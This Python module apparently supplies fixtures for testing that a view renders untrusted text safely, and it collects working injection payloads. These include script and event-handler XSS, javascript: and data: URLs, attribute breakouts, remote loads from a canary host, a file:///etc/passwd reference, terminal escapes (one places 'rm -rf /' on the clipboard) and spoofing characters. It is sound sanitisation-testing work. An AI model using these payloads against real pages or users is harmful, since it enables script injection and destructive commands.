"""What a hostile provider, ledger row or zip may write where a view shows words: each tries to be more than words.

Whatever runs calls `alert`, and whatever is fetched comes from `CANARY`: both would be seen.
"""

CANARY = "canary.invalid"

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": f"<script src=//{CANARY}/x.js></script>",
    "script, odd case and white space": "<ScRiPt\n/x>alert(1)</sCrIpT\t>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "module": f"<script type=module>import 'https://{CANARY}/m.js'</script>",
    "frame with a page": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": f"<object data=//{CANARY}/x><embed src=//{CANARY}/y>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
}
HANDLERS = {
    "onerror": "<img src=x onerror=alert(1)>",
    "onload": "<svg/onload=alert(1)>",
    "onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "ontoggle": "<details open ontoggle=alert(1)>",
    "onfocus": "<input autofocus onfocus=alert(1)>",
    "onstart": "<marquee onstart=alert(1)>x</marquee>",
    "video": f"<video src=//{CANARY}/v.mp4 autoplay onloadstart=alert(1)></video>",
}
ADDRESSES = {
    "javascript": "javascript:alert(1)",
    "javascript, mixed case": "JaVaScRiPt:alert(1)",
    "javascript, white space inside": "java\tscr\nipt:alert(1)",
    "javascript, control before": "\x01\x1fjavascript:alert(1)",
    "javascript, entities": "&#106;avascript&colon;alert&lpar;1&rpar;",
    "javascript, percent": "javascript%3Aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data, html": "data:text/html,<script>parent.alert(1)</script>",
    "data, svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "blob": "blob:https://localhost/0",
    "file": "file:///etc/passwd",
    "without a scheme": f"//{CANARY}/x.jpg",
    "backslashes": f"\\\\{CANARY}\\x.jpg",
    "http": f"http://{CANARY}/x.jpg",
    "https": f"https://{CANARY}/x.jpg",
    "https, breaking out": f'https://{CANARY}/" onerror="alert(1)',
    "https without a host": "https:///x",
    "link": "<a href=javascript:alert(1)>x</a>",
    "base": f"<base href=//{CANARY}/>",
    "refresh": f'<meta http-equiv=refresh content="0;url=//{CANARY}/">',
    "form": f"<form action=//{CANARY}/><button>x</button></form>",
}
BREAKOUTS = {
    "double quote": '"><img src=x onerror=alert(1)>',
    "single quote": "'><img src=x onerror=alert(1)>",
    "attribute": '" autofocus onfocus="alert(1)" x="',
    "attribute without quotes": " onmouseover=alert(1) tabindex=0 autofocus ",
    "backticks": "` onmouseover=`alert(1)` <b>`x`</b>",
    "closing everything": "</code></span></p></div></td></table></title></textarea></template></svg><h1>x</h1>",
    "comment": "--><script>alert(1)</script><!--",
    "comment, left open": "<!--><script>alert(1)</script>",
    "CDATA": "]]><script>alert(1)</script><![CDATA[",
    "processing instruction": "<?xml version=1.0?><!DOCTYPE x>",
    "foreign content": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
}
STYLES = {
    "style": "<style>*{display:none!important}</style>",
    "style from elsewhere": f"<style>@import url(//{CANARY}/x.css)</style><link rel=stylesheet href=//{CANARY}/y.css>",
    "declaration": f"red;background:url(https://{CANARY}/x);position:fixed",
    "expression": "expression(alert(1))",
}
MATHEMATICS = {
    "display": "$$\\href{javascript:alert(1)}{x^2}$$",
    "inline": "costs $5 and $x_1^2$",
    "parentheses": "\\(\\require{html}\\class{x}{y}\\) and \\[z\\]",
    "environment": "\\begin{equation}x\\label{a}\\end{equation} \\eqref{a} \\\\ \\$5",
    "macro": "$\\def\\a{\\a\\a}\\a$",
}
MARKDOWN = {
    "link": "[x](javascript:alert(1))",
    "image": f"![x](https://{CANARY}/x.png)",
    "after an empty line": f"x\n\n![x](https://{CANARY}/x.png)\n\n<img src=x onerror=alert(1)>\n\n# y",
    "address": f"<https://{CANARY}/> www.{CANARY}",
    "template": "{{constructor.constructor('alert(1)')()}} {% raw %} ${alert(1)}",
}
TERMINALS = {
    "colours": "\x1b[31;5mred\x1b[0m",
    "C1": "\x9b31mred \x85 \x90",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "OSC 8": f"\x1b]8;;https://{CANARY}/\x1b\\click\x1b]8;;\x1b\\",
    "OSC title": "\x1b]0;owned\x07",
    "OSC clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "overwriting": "failed\rsucceeded\x08\x08\x08",
}
CHARACTERS = {
    "NUL": "x\x00y",
    "bidi override": "abc\u202egnp.exe\u2066x\u2069",
    "invisible": "pay\u200bpal \ufeff\u2060\u00ad x\U000e0041",
    "line separators": "x\u2028y\u2029z\x0bw\x0c",
    "lone surrogates": "\ud800<b>\udfff",
    "not characters": "x\ufffe\uffff\ufffa",
    "huge": "<img src=x onerror=alert(1)>" * 4_000,
    "huge, hidden": "\x1b" * 5_000,
}
PAYLOADS: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, group in {
        "script": SCRIPTS,
        "handler": HANDLERS,
        "address": ADDRESSES,
        "breakout": BREAKOUTS,
        "style": STYLES,
        "mathematics": MATHEMATICS,
        "markdown": MARKDOWN,
        "terminal": TERMINALS,
        "character": CHARACTERS,
    }.items()
    for name, text in group.items()
}
